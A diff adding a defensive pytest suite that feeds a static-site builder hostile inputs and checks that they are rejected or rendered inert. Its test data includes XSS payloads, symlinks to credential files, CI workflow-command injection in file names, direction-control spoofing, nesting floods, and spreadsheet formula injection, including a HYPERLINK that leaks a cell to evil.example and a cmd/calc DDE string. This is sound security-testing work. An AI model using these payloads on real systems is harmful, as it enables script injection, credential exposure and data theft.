@@ -1,0 +1,316 @@
+"""The bad-input catalogue, hostile part: what a pull request changing only seeds/ could try.
+
+Each case either fails cleanly (exit 1, a message naming file, line and field, a count at
+the end, no traceback, nothing written) or builds with the text inert. Every build runs
+in a subprocess bounded in time and memory (support.run_build), so a case that hung or
+crashed the build fails here instead.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import sys
+
+import markdown
+import pytest
+
+from support import ROOT, run_build, snapshot
+from test_bad_input import ACTOR, SOURCE, replace, write
+
+from record_builder.problems import Problem
+
+sys.path.insert(0, str(ROOT / "site_hooks"))
+import security  # noqa: E402 - the built-site check, used here on the generated pages
+
+URL = "url: https://news.example.org/2025/10/01/example"
+NAME = "name: Alicia Éxample"
+
+
+def _symlink(path: str, target_of):
+    def edit(root):
+        (root / path).symlink_to(target_of(root))
+    return edit
+
+
+def _outside_file(name: str, content: str):
+    def target(root):
+        file = root.parent / name
+        file.write_text(content, encoding="utf-8")
+        return file
+    return target
+
+
+def _git_config(root):
+    (root / ".git").mkdir(exist_ok=True)
+    (root / ".git" / "config").write_text("[remote \"origin\"]\n\turl = https://token-abc123@example.org/x\n")
+    return root / ".git" / "config"
+
+
+def _fifo(path: str):
+    def edit(root):
+        os.mkfifo(root / path)
+    return edit
+
+
+def _both(*edits):
+    def edit(root):
+        for one in edits:
+            one(root)
+    return edit
+
+
+FAILS = {
+    # 1. addresses
+    "url: user name before @": (
+        replace(URL, "url: https://news.un.org@evil.example/2025/10/01"),
+        f"{SOURCE}:7:6: url: the address has a user name before '@' (news.un.org@), which makes it read as another"
+        " site's address; the site is 'evil.example': give its plain address; got the text"
+        " 'https://news.un.org@evil.example/2025...'"),
+    "url: data: address": (
+        replace(URL, "url: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+        f"{SOURCE}:7:6: url: expected an address starting with https:// or http://, or null when none is known;"
+        " got the text 'data:text/html;base64,PHNjcmlwdD5hbGV...'"),
+    "url: quote breaking out of the attribute": (
+        replace(URL, "url: https://news.example.org/\"onmouseover=\"alert(1)"),
+        f"{SOURCE}:7:6: url: the address contains '\"', which no address needs (percent-encode it if the address"
+        " really has one); got the text 'https://news.example.org/\"onmouseover...'"),
+    "url: host mixing scripts": (
+        replace(URL, "url: https://news.exаmple.org/x"),  # a Cyrillic а
+        f"{SOURCE}:7:6: url: the host name 'news.exаmple.org' mixes Cyrillic and Latin letters in one part, which"
+        " can imitate another site's name; got the text 'https://news.exаmple.org/x'"),
+    "url: no domain": (
+        replace(URL, "url: http://localhost/admin"),
+        f"{SOURCE}:7:6: url: the host name 'localhost' is not a domain name such as news.example.org (letters,"
+        " digits and hyphens, with at least one dot; not an IP address); got the text 'http://localhost/admin'"),
+    # 2. links and special files in seeds/
+    "symlink to a file outside the repository": (
+        _symlink("seeds/actors/leak.yaml", _outside_file("secret.yaml", "id: leak\nname: SECRET-CONTENT\n")),
+        "seeds/actors/leak.yaml:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
+        " here (a link or special file is never opened)"),
+    "symlink to a credentials file": (
+        _symlink("seeds/sources/creds.yaml", _outside_file(".git-credentials", "https://user:ghp_SECRET@github.com\n")),
+        "seeds/sources/creds.yaml:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
+        " here (a link or special file is never opened)"),
+    "symlink to .git/config": (
+        _symlink("seeds/legal/config.yaml", _git_config),
+        "seeds/legal/config.yaml:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
+        " here (a link or special file is never opened)"),
+    "symlink to a folder": (
+        _symlink("seeds/actors/more", lambda root: root.parent),
+        "seeds/actors/more:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
+        " here (a link or special file is never opened)"),
+    "named pipe": (
+        _fifo("seeds/actors/pipe.yaml"),
+        "seeds/actors/pipe.yaml:1:1: a named pipe (FIFO) in seeds/, which takes only regular files: put the file"
+        " itself here (a link or special file is never opened)"),
+    # 3. file names
+    "newline and workflow command in a file name": (
+        write("seeds/actors/x\n::error file=README.md,line=1::owned.yaml", "id: x\n"),
+        "seeds/actors/x\\n::error file=README.md,line=1::owned.yaml:1:1: the name 'x\\n::error"
+        " file=README.md,line=1::owned.yaml' has a character outside the safe set ('\\n'): file and folder names in"
+        " seeds/ may use only letters A-Z and a-z, digits 0-9, '-', '_' and '.' (not first), at most 100 characters"),
+    "direction control in a file name": (
+        write("seeds/actors/evil\u202elmay.yaml", "id: x\n"),
+        "seeds/actors/evil\\u202elmay.yaml:1:1: the name 'evil\\u202elmay.yaml' has a character outside the safe set"
+        " ('\\u202e'): file and folder names in seeds/ may use only letters A-Z and a-z, digits 0-9, '-', '_' and"
+        " '.' (not first), at most 100 characters"),
+    # 4. reserved ids
+    "actor id index": (
+        write("seeds/actors/index.yaml", "id: index\nname: Index\nkind: person\n"),
+        "seeds/actors/index.yaml:1:5: id: the id 'index' is reserved: the list page of the folder is index.md;"
+        " choose another id"),
+    "source id index": (
+        lambda root: (root / "seeds/sources/index.yaml").write_text(
+            (root / SOURCE).read_text(encoding="utf-8").replace("id: example-news-2025-10-01", "id: index"),
+            encoding="utf-8"),
+        "seeds/sources/index.yaml:1:5: id: the id 'index' is reserved: the list page of the folder is index.md;"
+        " choose another id"),
+    "legal id nul": (
+        write("seeds/legal/nul.yaml", "id: nul\ntitle: T\nquestion: Q?\n"),
+        "seeds/legal/nul.yaml:1:5: id: the id 'nul' is reserved: Windows cannot store a file named nul;"
+        " choose another id"),
+    # 5. numbers and dates
+    "figure .nan": (
+        replace("value: 3", "value: .nan"),
+        f"{SOURCE}:39:12: figures[0].value: expected a number, got .nan (not a number); write the figure the source gives"),
+    "figure .inf": (
+        replace("value: 3", "value: .inf"),
+        f"{SOURCE}:39:12: figures[0].value: expected a number, got .inf (infinity); write the figure the source gives"),
+    "integer of 400 digits": (
+        replace("value: 3", "value: " + "9" * 400),
+        f"{SOURCE}:39:12: figures[0].value: expected a number of at most 1,000,000,000,000,000, got a number of"
+        " 400 characters"),
+    "integer of 5,000 digits": (
+        replace("value: 3", "value: " + "7" * 5000),
+        f"{SOURCE}:39:12: figures[0].value: expected a number of at most 1,000,000,000,000,000, got a number of"
+        " 5,000 characters"),
+    "float too large": (
+        replace("value: 3", "value: 1.0e+300"),
+        f"{SOURCE}:39:12: figures[0].value: expected a number of at most 1,000,000,000,000,000, got 1e+300"),
+    "year 0000": (
+        replace("as_of: 2025-09-30", "as_of: 0000-01-01"),
+        f"{SOURCE}:41:12: figures[0].as_of: there is no year 0000 (the calendar's years run from 0001 to 9999);"
+        " got '0000-01-01'"),
+    # 6. nesting
+    "50,000 levels of [": (
+        write(ACTOR, "[" * 50_000),
+        f"{ACTOR}:1:65: the YAML nests lists and mappings more than 64 levels deep (a summary needs about six);"
+        " flatten it"),
+    "50,000 levels of block lists": (
+        write(ACTOR, "- " * 50_000 + "x\n"),
+        f"{ACTOR}:1:129: the YAML nests lists and mappings more than 64 levels deep (a summary needs about six);"
+        " flatten it"),
+    # 7. invisible direction controls
+    "right-to-left override in a name": (
+        replace(NAME, "name: Alicia \u202eelpmaxE", ACTOR),
+        f"{ACTOR}:3:7: name: the text contains the invisible direction control U+202E (RIGHT-TO-LEFT OVERRIDE),"
+        " which can reverse how the text around it reads; remove it"),
+    "isolate in a figure label": (
+        replace("label: Examples counted", "label: Examples \u2067counted"),
+        f"{SOURCE}:38:12: figures[0].label: the text contains the invisible direction control U+2067"
+        " (RIGHT-TO-LEFT ISOLATE), which can reverse how the text around it reads; remove it"),
+}
+
+
+@pytest.mark.parametrize("name", FAILS)
+def test_hostile_input_fails_cleanly(corpus, name):
+    edit, expected = FAILS[name]
+    edit(corpus)
+    before = snapshot(corpus / "seeds") if "pipe" not in name else None
+    result = run_build(corpus, "--github")
+    assert result.code == 1, result.err
+    assert expected in result.lines, "\n".join(result.lines)
+    assert result.lines[-1].endswith("; nothing was written.")
+    assert "Traceback" not in result.err and not (corpus / "docs").exists()
+    assert "SECRET" not in result.err + result.out and "token-abc123" not in result.err + result.out
+    assert ".git" not in result.err
+    # GitHub Actions obeys any output line starting with '::': ours are one per problem, all ::error.
+    commands = [line for line in result.out.splitlines() if line.startswith("::")]
+    assert commands and all(line.startswith("::error file=seeds/") for line in commands), commands
+    if before is not None:
+        assert snapshot(corpus / "seeds") == before
+
+
+def _html(corpus, page: str) -> str:
+    """A generated page as MkDocs' Markdown makes it HTML (the site's extensions)."""
+    text = (corpus / "docs" / page).read_text(encoding="utf-8").split("---\n", 2)[2]
+    return markdown.markdown(text, extensions=["attr_list", "tables", "toc"])
+
+
+def _inert(html: str) -> None:
+    checker = security._Checker(ROOT, ROOT, content_only=True)
+    checker.feed(html)
+    checker.close()
+    assert not checker.problems, checker.problems
+
+
+SOURCE_PAGE = "sources/example-news-2025-10-01.md"
+
+INERT = {
+    "Markdown image with onerror in the address": (
+        replace(URL, "url: https://x.example/![a](x){onerror=alert(document.domain)}"),
+        SOURCE_PAGE,
+        '<a href="https://x.example/!%5Ba%5D(x)%7Bonerror=alert(document.domain)%7D" rel="noopener noreferrer">'
+        "https://x.example/![a](x){onerror=alert(document.domain)}</a>"),
+    "Markdown javascript: link in the address": (
+        replace(URL, "url: https://x.example/[a](javascript:alert(1))"),
+        SOURCE_PAGE,
+        '<a href="https://x.example/%5Ba%5D(javascript:alert(1))" rel="noopener noreferrer">'
+        "https://x.example/[a](javascript:alert(1))</a>"),
+    "table cell break and attribute list in the address": (
+        replace(URL, "url: https://x.example/a|b{:onclick=alert(1)}"),
+        SOURCE_PAGE, None),
+    "internationalised host": (
+        replace(URL, "url: https://bücher.example/straße"),
+        SOURCE_PAGE,
+        '<a href="https://xn--bcher-kva.example/stra%C3%9Fe" rel="noopener noreferrer">https://bücher.example/straße</a>'),
+}
+
+
+@pytest.mark.parametrize("name", INERT)
+def test_hostile_address_builds_inert(corpus, name):
+    edit, page, expected = INERT[name]
+    edit(corpus)
+    result = run_build(corpus)
+    assert result.code == 0, result.err
+    html = _html(corpus, page)
+    _inert(html)
+    assert "<img" not in html and "onerror=" not in html.replace("onerror=alert", "")
+    assert not re.search(r'href="(?!https://)', html.split("Address", 1)[1].split("</tr>", 1)[0])
+    if expected:
+        assert expected in html, html[html.index("Address"):][:400]
+
+
+def test_spreadsheet_formulas_are_neutralised(corpus):
+    replace("label: Examples counted", 'label: =HYPERLINK("https://evil.example/?leak="&A1,"Click")')(corpus)
+    replace("title: The example event", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'")(corpus)
+    result = run_build(corpus)
+    assert result.code == 0, result.err
+    figures = (corpus / "docs/exports/figures.csv").read_text(encoding="utf-8")
+    timeline = (corpus / "docs/exports/timeline.csv").read_text(encoding="utf-8")
+    assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"' in figures
+    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in timeline
+    for text in (figures, timeline):  # no cell begins with a formula character
+        for line in text.splitlines():
+            assert not re.search(r'(^|,)"[=+\-@\t\r]', line), line
+    assert "OWASP" in (corpus / "docs/exports.md").read_text(encoding="utf-8")
+
+
+def test_year_9999_builds_a_valid_calendar(corpus):
+    replace("published: 2025-10-01", "published: 9999-12-31")(corpus)
+    replace("value: 2025-09-24/2025-09-30", "value: 2025-09-24/9999-12-31")(corpus)
+    result = run_build(corpus)
+    assert result.code == 0, result.err
+    ics = (corpus / "docs/exports/events.ics").read_bytes().decode("utf-8")
+    assert "DTSTART;VALUE=DATE:20250924\r\nDURATION:P2912542D\r\n" in ics
+
+
+def test_a_flood_of_one_problem_is_counted_not_printed(corpus):
+    replace("actors: [alice-example]", "actors: [" + ",".join(f"n{i}" for i in range(30_000)) + "]")(corpus)
+    result = run_build(corpus)
+    assert result.code == 1
+    assert len(result.lines) < 100, len(result.lines)
+    assert any(line.startswith("... and 29,975 more problems of the kind first shown as: ") for line in result.lines)
+    assert result.lines[-1] == "60000 problems found in 1 file; nothing was written."
+
+
+def test_annotations_escape_as_github_documents():
+    problem = Problem("seeds/a,b:c\r\n::stop-commands::x%.yaml", 3, 4, "f", "100% bad\n::error::forged")
+    annotation = problem.github_annotation()
+    assert annotation == ("::error file=seeds/a%2Cb%3Ac%0D%0A%3A%3Astop-commands%3A%3Ax%25.yaml,line=3,col=4"
+                          "::f: 100%25 bad%0A::error::forged")
+    assert "\n" not in problem.format() and "\r" not in problem.format()
+
+
+def test_reserved_ids_cover_every_generated_page_beside_records(corpus):
+    """Whatever the generator writes into a folder of record pages, other than the records' own
+    pages and their continuation pages ('--'), is reserved as an id."""
+    from record_builder.layout import reserved_id
+
+    assert run_build(corpus).code == 0
+    for folder, kind in (("actors", "actors"), ("legal", "legal"), ("sources", "sources")):
+        ids = {p.stem for p in (corpus / "seeds" / kind).glob("*.yaml")}
+        for page in (corpus / "docs" / folder).glob("*.md"):
+            if page.stem not in ids and "--" not in page.stem:
+                assert reserved_id(page.stem), page
+
+
+def test_site_check_names_the_page_with_a_handler(tmp_path):
+    """The built-site check holds even when the validator misses something."""
+    site = tmp_path / "site"
+    (site / "charts").mkdir(parents=True)
+    (site / "page.html").write_text(
+        '<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="script-src \'self\'">'
+        '</head><body><article class="md-content__inner"><p>x<img src="a.png" onerror="alert(1)">'
+        '<a href=" java\tscript:alert(1)">y</a><iframe src="https://evil.example"></iframe></p></article>'
+        "<script>alert(2)</script></body></html>", encoding="utf-8")
+    (site / "charts/c.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
+                                       '<a href="javascript:x"><text onclick="x">t</text></a></svg>', encoding="utf-8")
+    problems = security.check_site(site)
+    assert "page.html: line 1: the event-handler attribute onerror= on <img>" in problems
+    assert "page.html: line 1: a javascript: URL in href= on <a>" in problems
+    assert "page.html: line 1: the element <iframe>, which no page of the site has" in problems
+    assert "page.html: an inline script the policy does not list: 'alert(2)'" in problems
+    assert "charts/c.svg: line 1: the element <script>, which the charts never have" in problems
+    assert "charts/c.svg: line 1: the event-handler attribute onclick= on <text>" in problems
